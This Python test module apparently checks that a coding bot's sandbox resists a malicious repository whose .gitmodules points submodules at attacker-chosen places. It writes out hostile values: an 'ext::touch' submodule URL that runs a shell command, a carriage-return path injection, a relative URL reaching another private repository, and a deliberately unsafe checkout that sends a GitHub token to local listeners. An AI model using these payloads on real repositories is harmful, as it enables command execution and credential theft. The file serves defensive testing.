"""The story of a repository whose submodules lead to places of an attacker's choice."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from bot.demo import git_http
from bot.sandbox import workspace
from bot.sandbox.protocol import Sandbox
from tests.attacks import scene
from tests.attacks.listening import Listeners, forms, listeners
from tests.stories.harness import FILES, REPOSITORY, Story, fix, story, submit

NOWHERE = "1" * 40


def _repository(folder: Path, net: Listeners) -> Path:
    """Its first commit is a submodule of its second one, and has one itself."""
    for name, data in FILES.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    host = f"http://127.0.0.1:{net.tcp}"
    scene.git(folder, "init", "-q", "-b", "main")
    _add(folder, {"nested": f"{host}/submodule-nested/x.git"})
    scene.git(folder, "add", "-A", ".github", ".gitmodules", "calc.py", "test_calc.py")
    scene.git(folder, "commit", "-qm", "First")
    first = scene.git(folder, "rev-parse", "HEAD").strip()
    places = {
        "self": "../sample.git",
        "plain": f"{host}/submodule-url/x.git",
        "relative": "../other-private.git",
        "command": "ext::touch /workspace/submodule-ext",
        "cr\r": f"{host}/submodule-cr/x.git",
    }
    _add(folder, places, {"self": first})
    scene.git(folder, "add", ".gitmodules")
    scene.git(folder, "commit", "-qm", "Second")
    return folder


def _add(folder: Path, places: dict[str, str], commits: dict[str, str] | None = None) -> None:
    lines = []
    for number, (path, url) in enumerate(places.items()):
        quoted = path.replace("\r", "\\r") if "\r" not in path else f'"{path}"'
        lines.append(f'[submodule "s{number}"]\n\tpath = {quoted}\n\turl = "{url}"\n')
        commit = (commits or {}).get(path, NOWHERE)
        scene.git(folder, "update-index", "--add", "--cacheinfo", f"160000,{commit},{path}")
    (folder / ".gitmodules").write_text("".join(lines), newline="")


async def attack(folder: Path, monkeypatch: pytest.MonkeyPatch, *, held: bool) -> set[str]:
    """It is cloned, mended and published."""
    asked: list[str] = []
    serve = git_http.serve

    async def recorded(world: Any, home: Path, request: Any, send: Any) -> None:
        asked.append(request.url.path)
        await serve(world, home, request, send)

    monkeypatch.setattr(git_http, "serve", recorded)
    async with (
        listeners() as net,
        story(_repository(folder, net), CODER_PRIVATE_HOSTS="127.0.0.1") as s,  # type: ignore[arg-type]
    ):
        if not held:
            _without_walls(monkeypatch, s, net)
        s.script(fix(), submit())
        await s.comment()
        await s.settle()
        if held:
            assert await s.code() == "VERIFIED"
        task = (await s.bot.deps.store.tasks())[0]
        [record] = await s.bot.deps.store.sandboxes(task.id)
        sandbox = await s.bot.deps.provider.connect(str(record.provider_id), lifetime_s=600, epoch=1000)
        names = {entry.name for entry in await sandbox.list(".")}
        await sandbox.aclose()
        seen = {name for name in ("submodule-url", "submodule-nested", "submodule-cr") if net.asked(name)}
        seen |= {"submodule-ext"} & names
        seen |= {"submodule-relative"} if any("other-private" in path for path in asked) else set()
        tokens = forms(token.value for token in s.github.tokens)
        heads = "".join(net.heads).encode()
        return seen | ({"submodule-token"} if any(value in heads for value in tokens) else set())


def _without_walls(monkeypatch: pytest.MonkeyPatch, s: Story, net: Listeners) -> None:
    """Checking out brings the submodules along, with a token for everybody who is asked."""
    check_out = workspace.check_out

    async def with_submodules(sandbox: Sandbox, commit: str) -> None:
        import base64

        await check_out(sandbox, commit)
        task = (await s.bot.deps.store.tasks())[0]
        origin = s.github.api_url.removesuffix("/api/v3")
        await sandbox.allow(frozenset({origin.removeprefix("http://"), f"127.0.0.1:{net.tcp}"}))
        async with s.bot.deps.github.token(task.installation_id, task.name, {"contents": "read"}) as token:
            basic = base64.b64encode(f"x-access-token:{token}".encode()).decode()
            env = {
                **sandbox.proxy_env,
                "GIT_CONFIG_COUNT": "1",
                "GIT_CONFIG_KEY_0": "http.extraHeader",
                "GIT_CONFIG_VALUE_0": f"Authorization: Basic {basic}",
                "GIT_ALLOW_PROTOCOL": "http:ext",
            }
            line = (
                f'git remote add origin {origin}/{REPOSITORY}.git; for path in self plain relative command "$1"; '
                'do git submodule update --init --recursive -- "$path"; done'
            )
            argv = ["sh", "-c", line, "sh", "cr\r"]
            print("NAIVE", await sandbox.exec(argv, cwd=workspace.REPO, env=env, timeout_s=60))
        await sandbox.allow(frozenset())

    monkeypatch.setattr(workspace, "check_out", with_submodules)
